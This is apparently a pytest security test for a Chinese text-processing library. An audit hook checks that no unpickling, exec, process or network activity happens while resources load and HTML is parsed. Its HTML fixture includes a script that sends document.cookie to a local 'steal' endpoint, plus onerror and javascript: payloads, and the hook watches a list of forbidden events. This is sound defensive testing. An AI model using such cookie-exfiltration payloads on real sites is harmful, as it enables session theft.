"""No unsafe loading: no pickle/marshal of resources, no eval/exec, no processes, HTML parsed without running it.

A child process first imports textkit, every submodule and the third-party modules they use, then
installs an audit hook (``sys.addaudithook``) and exercises every public function family, including
the first-time loading of each resource (jieba's dictionary, its POS table and IDF table, stopwords,
the sentiment weights, the font, the case study). The hook records:

- ``pickle.find_class``, ``marshal.load(s)``, ``exec``, ``compile``, ``subprocess.Popen``, ``os.system``,
  ``os.exec*``, ``os.posix_spawn``, ``os.spawn``, ``os.fork``, ``ctypes.*``, ``webbrowser.open`` and
  ``socket.connect``/``getaddrinfo`` ("forbidden" events), and
- ``open`` of every file (the paths read).

An event raised by the import system itself (its nearest Python frame is ``importlib._bootstrap*``:
reading and unmarshalling a ``.pyc``, executing a module) is dropped: a lazy import is fine. Events
raised by module-level code *during* an import (e.g. ``namedtuple`` compiling its ``__new__``) are
kept but marked; pickle and marshal are forbidden even there.

``sentiment(model="snownlp")`` is a third-party opt-in: SnowNLP unmarshals its own bundled models
(``*.marshal.3``) when it is first imported. It runs last, in its own phase, and the tests show it is
the only path that unmarshals anything.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

CHILD = textwrap.dedent(
    r"""
    import importlib, json, os, sys

    inputs = sys.argv[1]
    import matplotlib

    matplotlib.use("Agg")
    import textkit

    MODULES = [
        "about", "article", "clean", "compare", "corpus", "datasets", "errors", "fonts", "io", "keywords",
        "plot", "report", "rouge", "segment", "sentences", "sentiment", "teaching", "words", "cli",
    ]
    THIRD_PARTY = [
        "jieba", "jieba.posseg", "jieba.analyse", "jieba.finalseg", "numpy", "pandas",
        "sklearn.feature_extraction.text", "selectolax.lexbor", "matplotlib.pyplot",
        "matplotlib.backends.backend_agg", "wordcloud", "opencc", "rjieba",
    ]
    for name in ["textkit." + m for m in MODULES] + THIRD_PARTY:
        try:
            importlib.import_module(name)
        except ImportError:  # an optional extra that is not installed
            pass

    WATCH = {
        "pickle.find_class", "marshal.load", "marshal.loads", "exec", "compile", "subprocess.Popen",
        "os.system", "os.posix_spawn", "os.spawn", "os.fork", "os.forkpty", "webbrowser.open",
        "socket.connect", "socket.getaddrinfo", "open",
    }
    WATCH_PREFIXES = ("os.exec", "ctypes.")
    events = []
    phase = ["start"]
    busy = [False]

    def hook(event, args):
        if busy[0] or not (event in WATCH or event.startswith(WATCH_PREFIXES)):
            return
        busy[0] = True  # sys._getframe itself raises an audit event
        try:
            frame = sys._getframe(1)
            if frame.f_code.co_filename.startswith("<frozen importlib._bootstrap"):
                return  # the import system reading/unmarshalling/executing a module: a lazy import
            stack, in_import, f = [], False, frame
            while f is not None:
                name = f.f_code.co_filename
                in_import = in_import or name.startswith("<frozen importlib._bootstrap")
                if len(stack) < 12:
                    stack.append(f"{name}:{f.f_lineno}")
                f = f.f_back
            if event == "open":
                path, mode, flags = args
                if path is None or isinstance(path, int):
                    return
                writing = (mode is not None and any(c in str(mode) for c in "wax+")) or (
                    isinstance(flags, int) and bool(flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT))
                )
                detail = [os.path.realpath(os.fsdecode(path)), writing]
            else:
                detail = repr(args)[:160]
            events.append([phase[0], event, detail, in_import, stack])
        finally:
            busy[0] = False

    sys.addaudithook(hook)

    text = "抖音电商的增量价值就是让用户寻找信息更高效。商家数量翻了一番,我们很高兴!"
    docs = [text, "直播带货让中小商家的销售额增长更快。", "平台上的商品数量增长了三成。"]
    out = {}

    def run(label, func):
        phase[0] = label
        out[label] = func()

    # --- every public function family; the first call of each loads its resources
    run("Segmenter", lambda: textkit.Segmenter().tokenize(text))
    run("Segmenter.tag", lambda: textkit.Segmenter().tag(text))
    run("Segmenter.spans", lambda: len(textkit.Segmenter().spans(text, with_pos=True)))
    run("tokenize", lambda: textkit.tokenize(text))
    run("load_stopwords", lambda: len(textkit.load_stopwords()))
    if importlib.util.find_spec("rjieba") is not None:
        run("tokenize_rjieba", lambda: textkit.tokenize(text, backend="rjieba"))
    for method in ("phrase", "tfidf", "textrank"):
        run("keywords_" + method, lambda m=method: textkit.keywords(text, method=m, top_n=5)["word"].tolist())
    run("compare_keywords", lambda: len(textkit.compare_keywords(docs[0], docs[1])))
    run("TfidfKeywords", lambda: len(textkit.TfidfKeywords().fit(docs).top_terms(docs, top_n=3)))
    run("discover_words", lambda: len(textkit.discover_words([text] * 5, min_count=2)))
    run("sentiment_default", lambda: [round(float(x), 6) for x in textkit.sentiment([text, "太糟糕了"])["score"]])
    run("sentiment_lexicon", lambda: [round(float(x), 6) for x in textkit.sentiment([text], model="lexicon")["score"]])
    run("explain_sentiment", lambda: len(textkit.explain_sentiment(text)))
    run("sentence_sentiment", lambda: len(textkit.sentence_sentiment(text)))
    run("document_sentiment", lambda: round(float(textkit.document_sentiment(text).mean), 6))
    run("load_lexicon", lambda: type(textkit.load_lexicon({"好吃": 1.0, "难吃": -1.0})).__name__)
    run("compare", lambda: [bool(x) for x in textkit.compare("商家数量翻了一番。", text).alignment["supported"]])
    run("rouge", lambda: textkit.rouge(text, text)["rouge1"].f1)
    run("split_sentences", lambda: textkit.split_sentences(text))
    phase[0] = "test input"
    page = open(os.path.join(inputs, "page.html"), encoding="utf-8").read()
    run("extract_article", lambda: textkit.extract_article(page).body)
    run("clean_html", lambda: textkit.clean(page))
    run("read_text_gbk", lambda: textkit.read_text(os.path.join(inputs, "gbk.txt")))
    run("read_text_big5", lambda: textkit.read_text(os.path.join(inputs, "big5.txt")))
    run("normalize", lambda: textkit.normalize("ＡＢＣ，抖音\u3000电商"))
    run("to_simplified", lambda: textkit.to_simplified("抖音電商"))
    run("load_case_study", lambda: len(textkit.load_case_study().summary))
    run("map_texts", lambda: list(textkit.corpus.map_texts(docs, textkit.tokenize, n_jobs=1)))

    def plots():
        from textkit import plot

        kw = textkit.keywords(text, top_n=5)
        axes = [plot.keyword_bars(kw), plot.word_cloud(kw, width=200, height=100),
                plot.summary_support(textkit.compare("商家数量翻了一番。", text).alignment)]
        return [plot.figure_to_png_bytes(ax)[:4].hex() for ax in axes]

    run("plot", plots)
    out["font"] = os.path.realpath(textkit.plot.cjk_font_path())
    run("snownlp", lambda: [round(float(x), 6) for x in textkit.sentiment([text], model="snownlp")["score"]])

    out["dirs"] = {
        "textkit": os.path.realpath(os.path.dirname(textkit.__file__)),
        "jieba": os.path.realpath(os.path.dirname(sys.modules["jieba"].__file__)),
        "matplotlib": os.path.realpath(os.path.dirname(matplotlib.__file__)),
        "case_study": os.path.realpath(os.path.dirname(textkit.datasets.case_study_path("original"))),
        "mplconfig": os.path.realpath(os.environ["MPLCONFIGDIR"]),
    }
    for name in ("opencc", "snownlp"):
        if name in sys.modules:
            out["dirs"][name] = os.path.realpath(os.path.dirname(sys.modules[name].__file__))
    print(json.dumps({"out": out, "events": events}, ensure_ascii=False))
    """
)

PAGE = """<!DOCTYPE html><html><head><title>抖音电商发布年度报告</title>
<style>body { color: red } .x::after { content: "样式文字" }</style>
<script>document.write("脚本文字"); fetch("http://127.0.0.1:9/steal?c=" + document.cookie);</script></head>
<body><!-- 注释文字 --><h1>抖音电商发布年度报告</h1>
<p>报告显示,过去一年平台上的商品数量增长了三成,中小商家的销售额增长更快&mdash;&amp;很快。</p>
<img src="x.png" onerror="alert('图片脚本')">
<a href="javascript:alert('链接脚本')">点击这里</a>
<iframe src="http://127.0.0.1:9/frame" srcdoc="<p>框架文档</p>">框架文字</iframe>
<p>商家数量翻了一番,我们很高兴!&#25238;&#38899;&lt;b&gt;</p>
<noscript>无脚本提示</noscript>
<script type="text/javascript">var s = "另一段脚本";</script></body></html>
"""

#: Events that must never happen (outside SnowNLP's opt-in phase).
FORBIDDEN_CODE = ("exec", "compile")
FORBIDDEN_LOADERS = ("pickle.find_class", "marshal.load", "marshal.loads")

Event = tuple[str, str, Any, bool, list[str]]


@pytest.fixture(scope="module")
def audit(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    inputs = tmp_path_factory.mktemp("safe_inputs")
    (inputs / "page.html").write_text(PAGE, encoding="utf-8")
    (inputs / "gbk.txt").write_bytes("抖音电商的增量价值就是让用户寻找信息更高效。".encode("gbk"))
    (inputs / "big5.txt").write_bytes("抖音電商的增量價值就是讓用戶尋找信息更高效。".encode("big5"))
    mpl = tmp_path_factory.mktemp("mplconfig")
    env = {k: v for k, v in os.environ.items() if not k.startswith(("TEXTKIT_", "MPLCONFIGDIR"))}
    env.update(MPLCONFIGDIR=str(mpl), MPLBACKEND="Agg", PYTHONDONTWRITEBYTECODE="1")
    proc = subprocess.run(
        [sys.executable, "-c", CHILD, str(inputs)],
        cwd=inputs,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    data: dict[str, Any] = json.loads(proc.stdout.strip().splitlines()[-1])
    data["inputs"] = str(inputs.resolve())
    return data


def _events(audit: dict[str, Any], *, snownlp: bool = False) -> Iterator[Event]:
    for phase, event, detail, in_import, stack in audit["events"]:
        if (phase == "snownlp") == snownlp:
            yield phase, event, detail, in_import, stack


def _inside(path: str, folder: str) -> bool:
    return path == folder or path.startswith(folder.rstrip(os.sep) + os.sep)


def test_every_function_family_ran(audit: dict[str, Any]) -> None:
    out = audit["out"]
    assert "抖音" in out["tokenize"]
    assert all(out["keywords_" + m] for m in ("phrase", "tfidf", "textrank"))
    assert out["sentiment_default"][0] > out["sentiment_default"][1]
    assert out["compare"] == [True]
    assert out["rouge"] == 1.0
    assert out["read_text_gbk"].startswith("抖音电商")
    assert out["read_text_big5"].startswith("抖音電商")
    assert out["to_simplified"] == "抖音电商"
    assert out["plot"] == ["89504e47"] * 3  # PNG files
    assert 0.0 <= out["snownlp"][0] <= 1.0


def test_no_pickle_or_marshal_outside_snownlp(audit: dict[str, Any]) -> None:
    # even inside lazily imported modules' code: nothing textkit runs unpickles or unmarshals a resource
    found = [(p, e, d, s[:3]) for p, e, d, _, s in _events(audit) if e in FORBIDDEN_LOADERS]
    assert found == []


def test_no_eval_exec_or_compile_at_run_time(audit: dict[str, Any]) -> None:
    # module-level code of a lazily imported third-party module may build functions with exec
    # (collections.namedtuple, dataclasses): that is part of importing, not of loading data
    found = [(p, e, d, s[:3]) for p, e, d, in_import, s in _events(audit) if e in FORBIDDEN_CODE and not in_import]
    assert found == []


def test_no_process_ctypes_browser_or_network(audit: dict[str, Any]) -> None:
    found = [
        (p, e, d, s[:3]) for p, e, d, _, s in audit["events"] if e not in (*FORBIDDEN_CODE, *FORBIDDEN_LOADERS, "open")
    ]
    assert found == []  # includes the snownlp phase: no subprocess, os.system/exec/spawn, ctypes, browser, socket


def test_snownlp_is_the_only_path_that_unmarshals(audit: dict[str, Any]) -> None:
    snownlp_dir = audit["out"]["dirs"]["snownlp"]
    loads = [(d, s) for _, e, d, _, s in _events(audit, snownlp=True) if e in FORBIDDEN_LOADERS]
    # SnowNLP's own bundled models (seg, tag, sentiment) are unmarshalled by SnowNLP's code, on import
    assert len(loads) >= 1
    assert all(_inside(s[0].rsplit(":", 1)[0], snownlp_dir) for _, s in loads)
    opened = {Path(d[0]).name for _, e, d, _, _ in _events(audit, snownlp=True) if e == "open"}
    assert "sentiment.marshal.3" in opened


def test_files_read_are_only_resources_inputs_and_the_font(audit: dict[str, Any]) -> None:
    out, dirs = audit["out"], audit["out"]["dirs"]
    allowed_dirs = [dirs["textkit"], dirs["jieba"], dirs["case_study"], audit["inputs"]]
    if "opencc" in dirs:
        allowed_dirs.append(dirs["opencc"])  # OpenCC's conversion tables (JSON/.ocd2), for to_simplified
    plot_dirs = [dirs["matplotlib"], dirs["mplconfig"]]  # matplotlib's own fonts/styles and its cache
    unexpected = []
    for phase, _, (path, writing), _, stack in (e for e in _events(audit) if e[1] == "open"):
        in_plot_dirs = phase == "plot" and any(_inside(path, d) for d in plot_dirs)
        metadata = any("importlib/metadata" in frame for frame in stack) and (
            ".dist-info" in path or ".egg-info" in path or path.endswith(".zip")
        )  # installed-package metadata (entry points), read by scikit-learn's narwhals plugin lookup
        if writing and not (phase == "plot" and _inside(path, dirs["mplconfig"])):
            unexpected.append((phase, path, "write", stack[:3]))
        elif not (path == out["font"] or any(_inside(path, d) for d in allowed_dirs) or in_plot_dirs or metadata):
            unexpected.append((phase, path, "read", stack[:3]))
    assert unexpected == []


def test_resources_are_read_as_plain_text(audit: dict[str, Any]) -> None:
    dirs = audit["out"]["dirs"]
    read = {
        os.path.relpath(d[0], dirs[root])
        for _, e, d, _, _ in _events(audit)
        if e == "open"
        for root in ("textkit", "jieba")
        if _inside(d[0], dirs[root])
    }
    # the test would be void if the resources were not loaded while the hook was on
    expected = {
        "dict.txt",  # jieba's dictionary: textkit builds the prefix dictionary (gen_pfdict) from the text file
        os.path.join("analyse", "idf.txt"),
        os.path.join("lang_zh", "stopwords_zh_iso.txt"),
        os.path.join("lang_zh", "stopwords_zh_textkit.txt"),
        os.path.join("resources", "sentiment_default.json"),
        os.path.join("resources", "sentiment_lexicon.tsv"),
    }
    assert expected <= read
    assert all(Path(p).suffix in {".txt", ".json", ".tsv", ".md"} for p in read), sorted(read)


def test_jieba_cache_is_never_written_or_read(audit: dict[str, Any]) -> None:
    paths = [d[0] for _, e, d, _, _ in audit["events"] if e == "open"]
    assert [p for p in paths if "jieba" in Path(p).name and Path(p).suffix == ".cache"] == []
    assert [p for p in paths if "jieba.u" in p] == []  # jieba's cache name for a custom dictionary


def test_html_is_parsed_without_running_it(audit: dict[str, Any]) -> None:
    # selectolax (lexbor) is a parser with no script engine: scripts, styles, comments, iframes and
    # event handlers are data. Their text must not reach the article, and nothing may run (no process,
    # no socket, no exec: see the tests above).
    for key in ("extract_article", "clean_html"):
        body = audit["out"][key]
        assert "报告显示" in body and "商家数量翻了一番" in body, key
        for hidden in (
            "脚本文字",
            "另一段脚本",
            "样式文字",
            "color",
            "注释文字",
            "框架",
            "图片脚本",
            "链接脚本",
            "alert",
        ):
            assert hidden not in body, (key, hidden)
        assert "javascript:" not in body and "127.0.0.1" not in body
        assert "—&很快" in body and "抖音<b>" in body  # entities decoded once, as text (not markup)
